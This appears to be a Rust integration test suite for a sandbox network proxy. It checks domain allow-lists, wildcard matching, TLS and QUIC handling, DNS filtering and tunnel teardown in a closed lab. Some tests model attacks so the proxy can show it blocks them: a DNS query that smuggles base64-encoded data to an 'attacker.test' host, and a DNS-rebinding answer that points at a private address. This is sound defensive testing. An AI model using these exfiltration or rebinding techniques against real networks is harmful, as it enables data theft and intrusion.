//! The per-sandbox transparent proxy end to end: a real daemon in a closed
//! lab, TLS origins with certificates from a test CA, a scripted
//! authoritative DNS server, and clients running inside the sandbox's
//! network namespace. Assertions are on what origins, the DNS server and the
//! canary received.

use std::collections::HashMap;
use std::net::{IpAddr, SocketAddr};
use std::time::{Duration, Instant};

use http::{Method, StatusCode};
use serde_json::{json, Value};
use sha2::{Digest, Sha256};
use tollgate_tests::client::{dns_query, https_get, Hello};
use tollgate_tests::daemon::{Daemon, KEY_DEFAULT};
use tollgate_tests::lab::{METADATA4, PRIVATE4, PUBLIC4};
use tollgate_tests::upstream::{big_byte, Answer, ScriptedDns, TestCa, TlsOrigin, BIG};

static SERIAL: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn serial() -> std::sync::MutexGuard<'static, ()> {
    SERIAL.lock().unwrap_or_else(|p| p.into_inner())
}

const DNS: &str = "198.51.100.53";

fn ip(s: &str) -> IpAddr {
    s.parse().expect("ip literal")
}

fn config(pool: &str) -> String {
    format!(
        r#"
[network]
pool = "{pool}"

[dns]
upstreams = ["{DNS}:53"]
"#
    )
}

/// A daemon, a CA, origins for `names` (name → address) and a DNS server
/// that knows them (plus `extra` answers).
struct World {
    d: Daemon,
    ca: TestCa,
    origins: HashMap<String, TlsOrigin>,
    dns: ScriptedDns,
}

impl World {
    fn new(tag: &str, pool: &str, names: &[(&str, &str)], extra: &[(&str, Answer)]) -> Self {
        let d = Daemon::start(tag, &config(pool));
        let ca = TestCa::new(tag);
        let mut table = HashMap::new();
        let mut origins = HashMap::new();
        for (name, addr) in names {
            let addr = ip(addr);
            d.lab.add_upstream_addr(addr);
            origins.insert(name.to_string(), TlsOrigin::start(&d.lab, &ca, name, addr));
            table.insert(name.to_string(), Answer::Fixed(vec![addr], 60));
        }
        for (name, a) in extra {
            table.insert(name.to_string(), a.clone());
        }
        d.lab.add_upstream_addr(ip(DNS));
        let dns = ScriptedDns::start(&d.lab, ip(DNS), table);
        Self {
            d,
            ca,
            origins,
            dns,
        }
    }

    fn origin(&self, name: &str) -> &TlsOrigin {
        &self.origins[name]
    }

    fn sandbox(&mut self, policy: Value) -> String {
        self.d.create_sandbox(&policy)
    }

    fn get(
        &self,
        id: &str,
        dst: &str,
        port: u16,
        sni: &str,
        path: &str,
        hello: Hello,
    ) -> tollgate_tests::client::Outcome {
        https_get(
            &format!("tollgate-{id}"),
            SocketAddr::new(ip(dst), port),
            sni,
            &self.ca.pem,
            path,
            hello,
        )
    }

    fn events(&mut self, id: &str) -> Vec<Value> {
        self.d.events(id)
    }
}

fn big_sha256() -> [u8; 32] {
    let mut h = Sha256::new();
    let mut chunk = vec![0u8; 1 << 16];
    let mut i = 0;
    while i < BIG {
        for (k, c) in chunk.iter_mut().enumerate() {
            *c = big_byte(i + k);
        }
        h.update(&chunk);
        i += chunk.len();
    }
    h.finalize().into()
}

#[test]
fn allowed_tls_passes_untouched_and_64_mib_arrive_intact() {
    let _g = serial();
    let mut w = World::new(
        "tunnel",
        "10.214.0.0/20",
        &[
            ("allowed.test", "198.51.100.20"),
            ("denied.test", "198.51.100.21"),
        ],
        &[],
    );
    let id = w.sandbox(json!({"mode": "custom", "allow_domains": ["allowed.test"]}));
    let o = w.get(
        &id,
        "198.51.100.20",
        443,
        "allowed.test",
        "/big",
        Hello::Normal,
    );
    assert!(o.ok, "{o:?}");
    assert_eq!(
        o.leaf.as_ref(),
        Some(&w.origin("allowed.test").leaf),
        "the client must see the origin's own certificate"
    );
    assert_eq!(o.body_len, BIG);
    assert_eq!(
        o.sha256,
        big_sha256(),
        "64 MiB body corrupted in the tunnel"
    );

    // Not allowed: a TLS alert, and the origin is never contacted.
    let o = w.get(&id, "198.51.100.21", 443, "denied.test", "/", Hello::Normal);
    assert!(!o.ok);
    let err = o.error.clone().unwrap_or_default();
    assert!(
        err.contains("received fatal alert"),
        "expected a TLS alert, got {err}"
    );
    assert_eq!(w.origin("denied.test").connections(), 0);
    assert!(
        w.d.lab.canary.to(ip("198.51.100.21")).is_empty(),
        "{:?}",
        w.d.lab.canary.seen()
    );
    let evs = w.events(&id);
    assert!(
        evs.iter()
            .any(|e| e["kind"] == "denied" && e["name"] == "denied.test"),
        "denial not reported with its name: {evs:#?}"
    );
}

#[test]
fn the_sandbox_destination_ip_is_ignored_only_the_name_is_dialled() {
    let _g = serial();
    let mut w = World::new(
        "dstip",
        "10.214.16.0/20",
        &[("allowed.test", "198.51.100.20")],
        &[],
    );
    let id = w.sandbox(json!({"mode": "custom", "allow_domains": ["allowed.test"]}));
    // SNI allowed.test, but the sandbox connects to the canary's address.
    let o = w.get(
        &id,
        &PUBLIC4.to_string(),
        443,
        "allowed.test",
        "/",
        Hello::Normal,
    );
    assert!(o.ok, "{o:?}");
    assert_eq!(o.leaf.as_ref(), Some(&w.origin("allowed.test").leaf));
    assert_eq!(w.origin("allowed.test").connections(), 1);
    assert!(
        !w.d.lab
            .canary
            .seen()
            .iter()
            .any(|s| s.dst == IpAddr::V4(PUBLIC4) && s.proto == 6),
        "the canary was dialled: {:?}",
        w.d.lab.canary.seen()
    );
    // To the metadata address: dropped before the proxy (floor); nothing reaches anyone.
    let o = w.get(
        &id,
        &METADATA4.to_string(),
        443,
        "allowed.test",
        "/",
        Hello::Normal,
    );
    assert!(!o.ok);
    assert!(w.d.lab.canary.to(IpAddr::V4(METADATA4)).is_empty());
    assert_eq!(w.origin("allowed.test").connections(), 1);
}

#[test]
fn wildcard_table_end_to_end() {
    let _g = serial();
    let names = [
        ("a.example.test", "198.51.100.30"),
        ("a.b.example.test", "198.51.100.31"),
        ("example.test", "198.51.100.32"),
        ("example.test.evil.test", "198.51.100.33"),
        ("evilexample.test", "198.51.100.34"),
    ];
    let mut w = World::new("wild", "10.214.32.0/20", &names, &[]);
    let id = w.sandbox(json!({"mode": "custom", "allow_domains": ["*.example.test"]}));
    for (sni, addr, allowed) in [
        ("a.example.test", "198.51.100.30", true),
        ("A.EXAMPLE.TEST", "198.51.100.30", true),
        ("a.b.example.test", "198.51.100.31", true),
        ("example.test", "198.51.100.32", false),
        ("example.test.evil.test", "198.51.100.33", false),
        ("evilexample.test", "198.51.100.34", false),
    ] {
        let o = w.get(&id, addr, 443, sni, "/", Hello::Normal);
        assert_eq!(o.ok, allowed, "{sni}: {o:?}");
    }
    assert_eq!(w.origin("a.example.test").connections(), 2);
    assert_eq!(w.origin("a.b.example.test").connections(), 1);
    for denied in ["example.test", "example.test.evil.test", "evilexample.test"] {
        assert_eq!(w.origin(denied).connections(), 0, "{denied} was dialled");
    }
}

#[test]
fn one_byte_and_large_client_hellos_are_decided_correctly() {
    let _g = serial();
    let mut w = World::new(
        "hello",
        "10.214.48.0/20",
        &[
            ("allowed.test", "198.51.100.20"),
            ("denied.test", "198.51.100.21"),
        ],
        &[],
    );
    let id = w.sandbox(json!({"mode": "custom", "allow_domains": ["allowed.test"]}));
    let o = w.get(
        &id,
        "198.51.100.20",
        443,
        "allowed.test",
        "/",
        Hello::OneByte,
    );
    assert!(o.ok, "one byte at a time: {o:?}");
    let o = w.get(&id, "198.51.100.20", 443, "allowed.test", "/", Hello::Large);
    assert!(o.hello_len >= 1800, "hello only {} bytes", o.hello_len);
    assert!(o.ok, "large hello: {o:?}");
    let o = w.get(
        &id,
        "198.51.100.21",
        443,
        "denied.test",
        "/",
        Hello::OneByte,
    );
    assert!(!o.ok);
    let o = w.get(&id, "198.51.100.21", 443, "denied.test", "/", Hello::Large);
    assert!(!o.ok);
    assert_eq!(w.origin("allowed.test").connections(), 2);
    assert_eq!(w.origin("denied.test").connections(), 0);
    // TLS with an allowed name on another port is dialled by name on that port.
    let o = w.get(
        &id,
        "198.51.100.20",
        8443,
        "allowed.test",
        "/",
        Hello::Normal,
    );
    assert!(o.ok, "{o:?}");
}

#[test]
fn quic_to_an_allowed_name_is_dropped_and_tcp_works() {
    let _g = serial();
    let mut w = World::new(
        "quic",
        "10.214.64.0/20",
        &[("allowed.test", "198.51.100.20")],
        &[],
    );
    for policy in [
        json!({"mode": "custom", "allow_domains": ["allowed.test"]}),
        json!({"mode": "allow-all"}),
    ] {
        let id = w.sandbox(policy);
        let ns = format!("tollgate-{id}");
        let sent = tollgate_tests::lab::in_netns(&ns, || {
            let s = std::net::UdpSocket::bind("0.0.0.0:0").expect("udp");
            s.send_to(b"\xc0QUIC-initial", "198.51.100.20:443").is_ok()
        });
        assert!(sent);
        std::thread::sleep(Duration::from_millis(300));
        assert!(
            !w.d.lab
                .canary
                .seen()
                .iter()
                .any(|s| s.proto == 17 && s.dport == 443),
            "QUIC left the sandbox: {:?}",
            w.d.lab.canary.seen()
        );
        let o = w.get(
            &id,
            "198.51.100.20",
            443,
            "allowed.test",
            "/",
            Hello::Normal,
        );
        assert!(o.ok, "TCP fallback failed: {o:?}");
        let del = w.d.delete_sandbox(&id);
        assert_eq!(del.status, StatusCode::NO_CONTENT);
    }
}

#[test]
fn dns_never_forwards_non_allowed_names_and_rebinding_never_dials_private() {
    let _g = serial();
    let mut w = World::new(
        "dns",
        "10.214.80.0/20",
        &[
            ("allowed.test", "198.51.100.20"),
            ("rebind.test", "198.51.100.22"),
        ],
        &[(
            "rebind.test",
            Answer::Rebind(vec![ip("198.51.100.22")], vec![IpAddr::V4(PRIVATE4)]),
        )],
    );
    let id = w.sandbox(json!({"mode": "custom", "allow_domains": ["allowed.test", "rebind.test"]}));
    let ns = format!("tollgate-{id}");
    let gw = SocketAddr::new(ip("10.0.2.2"), 53);
    let r = dns_query(&ns, gw, "c2VjcmV0.attacker.test", 1)
        .expect("an answer from the sandbox resolver");
    assert_eq!(r.rcode, 3, "non-allowed name must be NXDOMAIN");
    assert_eq!(
        w.dns.count("attacker.test"),
        0,
        "the query name left the sandbox: {:?}",
        w.dns.queries()
    );
    let r = dns_query(&ns, gw, "allowed.test", 1).expect("answer");
    assert_eq!((r.rcode, r.addrs.clone()), (0, vec![ip("198.51.100.20")]));
    assert!(w.dns.count("allowed.test") >= 1);

    // Rebinding: public then private at TTL 0, over and over.
    let mut ok = 0;
    for _ in 0..20 {
        if w.get(&id, "198.51.100.22", 443, "rebind.test", "/", Hello::Normal)
            .ok
        {
            ok += 1;
        }
    }
    assert!(ok >= 1, "no connection ever succeeded");
    assert!(
        w.d.lab.canary.to(IpAddr::V4(PRIVATE4)).is_empty(),
        "a private answer was dialled: {:?}",
        w.d.lab.canary.seen()
    );
    assert_eq!(w.origin("rebind.test").connections(), ok);

    // deny-all: REFUSED, nothing forwarded.
    let before = w.dns.queries().len();
    let id2 = w.sandbox(json!({"mode": "deny-all"}));
    let r = dns_query(&format!("tollgate-{id2}"), gw, "allowed.test", 1);
    assert!(
        r.is_none() || r.as_ref().is_some_and(|r| r.rcode == 5),
        "{r:?}"
    );
    assert_eq!(w.dns.queries().len(), before);
}

/// A client in the sandbox `ns` that asks allowed.test for `/big`, reads a
/// little, signals on the first channel, stalls (buffers fill, the tunnel
/// stays open) until told to go on the second, then reads as fast as it can
/// until the connection ends: (when it ended, bytes read).
#[allow(clippy::type_complexity)]
fn stalled_big_reader(
    ns: String,
    ca: String,
) -> (
    std::thread::JoinHandle<(Instant, usize)>,
    std::sync::mpsc::Receiver<()>,
    std::sync::mpsc::Sender<()>,
) {
    let (open_tx, open_rx) = std::sync::mpsc::channel();
    let (go_tx, go_rx) = std::sync::mpsc::channel::<()>();
    let reader = std::thread::spawn(move || {
        tollgate_tests::lab::in_netns(&ns, move || {
            use rustls::pki_types::pem::PemObject;
            use std::io::{Read, Write};
            let mut roots = rustls::RootCertStore::empty();
            for c in rustls::pki_types::CertificateDer::pem_slice_iter(ca.as_bytes()).flatten() {
                let _ = roots.add(c);
            }
            let cfg = rustls::ClientConfig::builder_with_provider(std::sync::Arc::new(
                rustls::crypto::ring::default_provider(),
            ))
            .with_safe_default_protocol_versions()
            .expect("versions")
            .with_root_certificates(roots)
            .with_no_client_auth();
            let mut conn = rustls::ClientConnection::new(
                std::sync::Arc::new(cfg),
                "allowed.test".try_into().expect("name"),
            )
            .expect("conn");
            let mut tcp = std::net::TcpStream::connect("198.51.100.20:443").expect("connect");
            tcp.set_read_timeout(Some(Duration::from_secs(10)))
                .expect("timeout");
            let mut s = rustls::Stream::new(&mut conn, &mut tcp);
            s.write_all(b"GET /big HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
                .expect("request");
            let mut b = vec![0u8; 1 << 16];
            let mut total = s.read(&mut b).unwrap_or(0);
            let _ = open_tx.send(());
            let _ = go_rx.recv_timeout(Duration::from_secs(20));
            loop {
                match s.read(&mut b) {
                    Ok(0) | Err(_) => return (Instant::now(), total),
                    Ok(n) => total += n,
                }
            }
        })
    });
    (reader, open_rx, go_tx)
}

#[test]
fn a_killed_daemon_closes_its_kernel_spliced_tunnels_and_enforcement_stays() {
    let _g = serial();
    let mut w = World::new(
        "killsplice",
        "10.214.128.0/20",
        &[
            ("allowed.test", "198.51.100.20"),
            ("denied.test", "198.51.100.21"),
        ],
        &[],
    );
    assert!(
        w.d.log().contains("kernel tunnel loaded"),
        "the daemon runs without the kernel tunnel: {}",
        w.d.log()
    );
    let id = w.sandbox(json!({"mode": "custom", "allow_domains": ["allowed.test"]}));
    let ns = format!("tollgate-{id}");
    let (reader, open_rx, go_tx) = stalled_big_reader(ns.clone(), w.ca.pem.clone());
    open_rx
        .recv_timeout(Duration::from_secs(10))
        .expect("tunnel open");
    std::thread::sleep(Duration::from_millis(300));
    let World {
        d, origins, dns, ..
    } = w;
    let lab = d.lab.clone();
    let t0 = Instant::now();
    let stopped = d.kill_keep_state();
    std::thread::sleep(Duration::from_millis(200));
    let _ = go_tx.send(());
    let (closed_at, total) = reader.join().expect("reader");
    assert!(total < BIG, "the whole body arrived after the kill");
    let took = closed_at.saturating_duration_since(t0);
    assert!(
        took < Duration::from_secs(2),
        "the sandbox's connection still open {took:?} after the kill"
    );
    // The origin's side was closed too: its /big answer failed.
    let origin = &origins["allowed.test"];
    let deadline = Instant::now() + Duration::from_secs(5);
    while origin.log.aborted.load(std::sync::atomic::Ordering::SeqCst) == 0 {
        assert!(
            Instant::now() < deadline,
            "the origin's connection outlived the daemon"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    // With the daemon dead, the filter still enforces: nothing reaches a
    // denied address, by TCP or UDP.
    lab.canary.clear();
    let probe = tollgate_tests::lab::in_netns(&ns, || {
        let tcp = std::net::TcpStream::connect_timeout(
            &"198.51.100.21:443".parse().expect("addr"),
            Duration::from_secs(2),
        );
        let udp = std::net::UdpSocket::bind("0.0.0.0:0")
            .and_then(|u| u.send_to(b"probe", "198.51.100.21:9"));
        (tcp.is_ok(), udp.is_ok())
    });
    assert!(!probe.0, "a TCP connection to a denied address succeeded");
    assert!(probe.1, "the UDP probe was not sent");
    std::thread::sleep(Duration::from_millis(300));
    assert!(
        lab.canary.to(ip("198.51.100.21")).is_empty(),
        "packets reached a denied address after the kill: {:?}",
        lab.canary.seen()
    );
    drop((origins, dns));
    // The next daemon adopts the sandbox and cleans up (Stopped's drop).
    drop(stopped);
}

#[test]
fn tightening_the_policy_closes_an_open_tunnel_within_a_second() {
    let _g = serial();
    let mut w = World::new(
        "revoke",
        "10.214.96.0/20",
        &[("allowed.test", "198.51.100.20")],
        &[],
    );
    let id = w.sandbox(json!({"mode": "custom", "allow_domains": ["allowed.test"]}));
    let (reader, open_rx, go_tx) = stalled_big_reader(format!("tollgate-{id}"), w.ca.pem.clone());
    open_rx
        .recv_timeout(Duration::from_secs(10))
        .expect("tunnel open");
    std::thread::sleep(Duration::from_millis(300));
    let t0 = Instant::now();
    let u = w.d.call(
        Method::PUT,
        &format!("/v1/sandbox/{id}/network_policy"),
        "/v1/sandbox/{id}/network_policy",
        KEY_DEFAULT,
        Some(&json!({"mode": "custom", "allow_domains": ["other.test"]})),
    );
    assert_eq!(u.status, StatusCode::OK);
    std::thread::sleep(Duration::from_millis(1000));
    let _ = go_tx.send(());
    let (closed_at, total) = reader.join().expect("reader");
    assert!(
        total < BIG,
        "the whole body arrived: the tunnel was not closed"
    );
    let took = closed_at.saturating_duration_since(t0);
    // The reader waited 1 s before draining: closed within 1 s means it
    // saw the end right after that wait.
    assert!(
        took < Duration::from_millis(1500),
        "tunnel still open {took:?} after the update"
    );
    // New connections see the new policy at once.
    assert!(
        !w.get(
            &id,
            "198.51.100.20",
            443,
            "allowed.test",
            "/",
            Hello::Normal
        )
        .ok
    );
}

#[test]
fn plain_http_is_checked_per_request_and_denials_are_403_with_a_reason() {
    let _g = serial();
    let mut w = World::new(
        "http",
        "10.214.112.0/20",
        &[("allowed.test", "198.51.100.20")],
        &[],
    );
    let id = w.sandbox(json!({"mode": "custom", "allow_domains": ["allowed.test"]}));
    let ns = format!("tollgate-{id}");
    let reply = tollgate_tests::lab::in_netns(&ns, || {
        use std::io::{Read, Write};
        let mut c = std::net::TcpStream::connect_timeout(
            &"198.51.100.10:80".parse().expect("addr"),
            Duration::from_secs(5),
        )
        .expect("connect");
        c.set_read_timeout(Some(Duration::from_secs(5)))
            .expect("timeout");
        c.write_all(b"GET / HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n")
            .expect("write");
        let mut r = String::new();
        let _ = c.read_to_string(&mut r);
        r
    });
    assert!(reply.starts_with("HTTP/1.1 403"), "{reply}");
    assert!(
        reply
            .to_ascii_lowercase()
            .contains("x-tollgate-reason: domain_not_allowed"),
        "{reply}"
    );
    assert!(
        !w.d.lab.canary.seen().iter().any(|s| s.proto == 6),
        "the canary was contacted: {:?}",
        w.d.lab.canary.seen()
    );
    let evs = w.events(&id);
    assert!(
        evs.iter()
            .any(|e| e["name"] == "denied.test" && e["reason"] == "domain_not_allowed"),
        "{evs:#?}"
    );
    let c = w.d.call(
        Method::GET,
        &format!("/v1/sandbox/{id}/network/counters"),
        "/v1/sandbox/{id}/network/counters",
        KEY_DEFAULT,
        None,
    );
    assert_eq!(
        c.body["counters"]["proxy_domain_not_allowed"], 1,
        "{}",
        c.body
    );
}
